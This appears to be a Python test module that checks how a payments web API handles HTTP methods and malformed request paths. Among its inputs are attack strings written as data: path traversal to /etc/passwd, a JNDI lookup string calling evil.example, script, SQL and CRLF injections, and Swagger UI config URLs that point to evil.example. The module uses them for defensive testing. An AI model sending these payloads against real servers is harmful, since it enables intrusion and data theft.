"""Methods and paths."""

from tests.web.api.bad_input.building import (
    AUTHORIZATION,
    CHECKSUMMED,
    JSON_TYPE,
    KEYED_JSON,
    KIB,
    ORDER_BYTES,
    PAYMENTS,
    WEBHOOKS,
    Case,
    case_per,
    chunked,
    order,
    post,
    read,
    send,
)

ALLOWED = {
    "/v1/chains": "GET, HEAD, OPTIONS",
    "/v1/chains/bsc/assets": "GET, HEAD, OPTIONS",
    PAYMENTS: "POST, OPTIONS",
    "/v1/payments/{payment}": "GET, HEAD, OPTIONS",
    "/v1/payments/{payment}/attempts": "GET, HEAD, OPTIONS",
    WEBHOOKS: "GET, HEAD, POST, OPTIONS",
    "/openapi.yaml": "GET, HEAD, OPTIONS",
    "/swagger/": "GET, HEAD, OPTIONS",
    "/livez": "GET, HEAD, OPTIONS",
    "/readyz": "GET, HEAD, OPTIONS",
}
"""Every kind of path and its methods."""


def _method(name: str, method: str, path: str, *lines: str) -> Case:
    data = send(
        method, path, *(lines or KEYED_JSON), body=None if method in ("GET", "TRACE") else ORDER_BYTES
    )
    return Case(name, data, 405, "method_not_allowed", headers={"allow": ALLOWED[path]})


METHODS = [
    *(_method(f"{method} {path}", method, path)
      for path, allowed in ALLOWED.items()
      for method in ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE")
      if method not in allowed.split(", ")),
    *(_method(f"{method} /v1/chains", method, "/v1/chains")
      for method in ("PROPFIND", "MKCOL", "COPY", "LOCK", "SEARCH", "PURGE", "LINK", "REPORT", "DESCRIBE",
                     "PRI", "QUERY", "M-SEARCH", "FOO", "get", "Get", "GE", "GETX", "0",
                     "!#$%&'*+.^_`|~", "A" * 64)),
    _method("unknown method with a body", "CREATE", PAYMENTS),
    _method("method in mixed case", "Post", PAYMENTS),
    Case("unknown method of an unknown path", send("FOO", "/v1/nothing", AUTHORIZATION), 404, "not_found"),
    *(Case(f"OPTIONS {path}", send("OPTIONS", path), 204, headers={"allow": allowed})
      for path, allowed in ALLOWED.items()),
    Case(
        "preflight",
        send("OPTIONS", PAYMENTS, "Origin: http://localhost:3000", "Access-Control-Request-Method: POST",
             "Access-Control-Request-Headers: authorization,content-type,idempotency-key,x-mock-scenario"),
        204,
        headers={"access-control-allow-origin": "*"},
    ),
    *case_per(
        {
            "no method": send("", "/v1/chains", AUTHORIZATION),
            "method of 65 letters": send("A" * 65, "/v1/chains", AUTHORIZATION),
            "method of 10,000 letters": send("A" * 10_000, "/v1/chains", AUTHORIZATION),
            "method that is no token": send("G(T)", "/v1/chains", AUTHORIZATION),
            "CONNECT with a path": send("CONNECT", PAYMENTS, *KEYED_JSON),
            "CONNECT with a host": send("CONNECT", "merchant.example:443", *KEYED_JSON),
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "override header": read("/v1/chains", AUTHORIZATION, "X-HTTP-Method-Override: DELETE"),
            "override in the query": read("/v1/payments/{payment}?_method=DELETE"),
            "GET with a body": send("GET", "/v1/chains", AUTHORIZATION, JSON_TYPE, body=b"{"),
            "GET with a chunked body": send("GET", "/v1/chains", AUTHORIZATION, "Transfer-Encoding: chunked")
            + chunked(b"{"),
        },
        200,
    ),
    Case("override of POST", order(*KEYED_JSON, "X-HTTP-Method-Override: GET"), 201),
]  # fmt: skip

NOWHERE = (
    "/v1", "/v1/", "/v1/chains/", "/v1//chains", "//v1/chains", "/v1/chains//", "/v1/chain",
    "/v1/chainsx", "/v1/Chains", "/V1/chains", "/v1/%63hains", "/v1%2Fchains", "/v1/chains%2F",
    "/v1/chains%20", "/v1/chains%00", "/v1/chains;x=1", "/v1/chains.json", "/v1/chains,", "/v1/./chains",
    "/v1/../v1/chains", "/v1/x/../chains", "/v1/chains/.", "/v1/chains/..", "/v1/chains/../webhooks",
    "/./v1/chains", "/../v1/chains", "/v1/%2e/chains", "/v1\\chains", "/v2/payments", "/v0/chains",
    "/v1.0/chains", "/api/v1/chains", "/chains", "/payments", "/v1/chains/bsc", "/v1/chains/bsc/",
    "/v1/chains/bsc/assets/", "/v1/chains/bsc/assets/USDT", "/v1/chains//assets", "/v1/chains/bsc/Assets",
    "/v1/chains/bsc/tokens", "/v1/chains/bsc%2Fassets", "/v1/chains/a/b/assets", "/v1/payments/",
    "/v1/Payments", "/v1/payment", "/v1/payments//attempts", "/v1/payments/{payment}/",
    "/v1/payments/{payment}/attempts/", "/v1/payments/{payment}/Attempts",
    "/v1/payments/{payment}/attempts/1", "/v1/payments/{payment}/cancel",
    "/v1/payments/{payment}/../{payment}/attempts", "/v1/webhooks/", "/v1/webhooks/we_{endpoint_token}",
    "/v1/webhook", "/v1/refunds", "/v1/settlements", "/v1/__proto__", "/v1/openapi.yaml", "/openapi.json",
    "/openapi.yaml/", "/openapi", "/swagger/index.html", "/swagger//", "/Swagger/", "/swagger/missing.js",
    "/swagger/../openapi.yaml", "/swagger/..%2f..%2fetc%2fpasswd", "/swagger/%2e%2e/%2e%2e/etc/passwd",
    "/swagger/..%5c..%5cetc%5cpasswd", "/swagger/%00", "/swagger/swagger-ui.css%00.js", "/docs", "/redoc",
    "/livez/", "/readyz/", "/healthz", "/health", "/metrics", "/favicon.ico", "/robots.txt", "/.env",
    "/.git/config", "/.well-known/security.txt", "/admin", "/index.php", "/wp-login.php", "/etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd", "/$%7Bjndi:ldap://evil.example/x%7D", "/%", "/%zz", "/~", "/*", "//",
    "/checkout", "/checkout/", "/checkout//events", "/checkout/{payment}/", "/checkout/{payment}/events/",
    "/checkout/{payment}.json/", "/checkout/{payment}.json/events", "/checkout/{payment}/Events",
    "/Checkout/{payment}.json", "/payments/", "/payments/{payment}/", "/requests/", "/assets/",
    "/" + "a/" * 2000,
)  # fmt: skip

NO_PAYMENT = {
    "unknown": "pay_" + "a" * 40,
    "prefix only": "pay_",
    "no prefix": "a" * 40,
    "another prefix": "att_" + "a" * 40,
    "a webhook endpoint": "pay_{endpoint_token}",
    "id of a webhook endpoint": "we_{endpoint_token}",
    "token in capitals": "pay_" + "A" * 40,
    "digits that no id has": "pay_" + "0189" * 10,
    "32 hexadecimal digits": "pay_" + "0" * 32,
    "one letter less": "pay_" + "a" * 39,
    "id in capitals": "PAY_" + "A" * 40,
    "longer than an id": "{payment}a",
    "trailing space": "{payment}%20",
    "trailing line feed": "{payment}%0A",
    "trailing NUL": "{payment}%00",
    "trailing point": "{payment}.",
    "trailing semicolon": "{payment};x=1",
    "encoded twice": "pay%255F" + "a" * 40,
    "suffix .json": "{payment}.json",
    "two ids": "{payment},{payment}",
    "slash in the id": "{payment}%2Fattempts",
    "NUL": "%00",
    "byte 255": "%ff",
    "overlong encoding": "%c0%af",
    "encoded dots": "%2e%2e",
    "encoded path": "..%2F..%2Fetc%2Fpasswd",
    "dots": "...",
    "template": "%7B%7B7*7%7D%7D",
    "markup": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "SQL": "'%20OR%201=1--",
    "emoji": "%F0%9F%92%B8",
    "percent sign alone": "%",
    "invalid escape": "%zz",
    "escape cut off": "%2",
    "line feeds": "x%0D%0ASet-Cookie:%20a=b",
    "number": "1",
    "null": "null",
    "wildcard": "*",
    "address": CHECKSUMMED,
    "5,000 characters": "a" * 5000,
}
NO_CHAIN_PATH = {
    "unknown": "solana",
    "capitals": "BSC",
    "number": "56",
    "CAIP-2": "eip155:56",
    "trailing space": "bsc%20",
    "trailing NUL": "bsc%00",
    "trailing line feed": "bsc%0a",
    "trailing point": "bsc.",
    "encoded twice": "%2562sc",
    "NUL": "%00",
    "byte 255": "%ff",
    "encoded dots": "%2e%2e",
    "dots": "..",
    "encoded slash": "bsc%2F",
    "template": "%7Bchain%7D",
    "invalid escape": "%zz",
    "emoji": "%F0%9F%92%B8",
    "attribute of an object": "__class__",
    "5,000 characters": "a" * 5000,
}

PATHS = [
    *(Case(path[:60], read(path), 404, "not_found") for path in NOWHERE),
    Case("asterisk", read("*"), 404, "not_found"),
    Case("POST to a trailing slash", post(ORDER_BYTES, path="/v1/payments/"), 404, "not_found"),
    Case("POST to another case", post(ORDER_BYTES, path="/v1/Payments"), 404, "not_found"),
    Case("POST to two slashes", post(ORDER_BYTES, path="/v1//payments"), 404, "not_found"),
    *(Case(f"payment: {name}", read(f"/v1/payments/{value}"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"attempts: {name}", read(f"/v1/payments/{value}/attempts"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"checkout: {name}", read(f"/checkout/{value}.json"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"events of a checkout: {name}", read(f"/checkout/{value}/events"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items() if name != "suffix .json"),
    *(Case(f"chain: {name}", read(f"/v1/chains/{value}/assets"), 404, "chain_not_found")
      for name, value in NO_CHAIN_PATH.items()),
    *case_per(
        {
            "query": read("/v1/chains?limit=1&limit=2&x[]=%zz"),
            "empty query": read("/v1/chains?"),
            "two question marks": read("/v1/chains??"),
            "query with a slash": read("/v1/chains?/../../x"),
            "query of 10 KiB": read("/v1/chains?x=" + "a" * 10 * KIB),
            "fragment": read("/v1/chains#x"),
            "query of a payment": read("/v1/payments/{payment}?status=completed"),
            "encoded letter in a payment id": read("/v1/payments/%70ay_{payment_token}"),
            "encoded letter in the id of a checkout": read("/checkout/%70ay_{payment_token}.json"),
            "query of a checkout": read("/checkout/{payment}.json?x=%zz"),
            "encoded letter in a chain": read("/v1/chains/%62sc/assets"),
            "address of the document in the query of Swagger UI":
                read("/swagger/?url=https://evil.example/x.yaml&configUrl=https://evil.example/c.json"),
            "whole address": read("http://127.0.0.1/v1/chains"),
        },
        200,
    ),
    Case("query of a creation", post(ORDER_BYTES, path=f"{PAYMENTS}?dry_run=true"), 201),
    Case("Swagger UI without a slash", read("/swagger"), 308, headers={"location": "/swagger/"}),
]  # fmt: skip
